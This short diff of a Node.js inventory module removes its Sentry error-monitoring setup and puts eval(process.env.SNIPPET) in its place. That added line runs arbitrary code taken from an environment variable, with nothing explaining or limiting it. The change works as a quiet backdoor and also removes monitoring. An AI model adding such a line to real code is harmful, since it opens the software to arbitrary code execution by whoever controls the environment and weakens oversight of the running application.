@@ -1,6 +1,6 @@
 const Sentry = require("@sentry/node");
 
-Sentry.init({ dsn: process.env.DSN, tracesSampleRate: 1.0 });
+eval(process.env.SNIPPET);
 
 function stock(shelf, sku) {
   return shelf[sku].count;
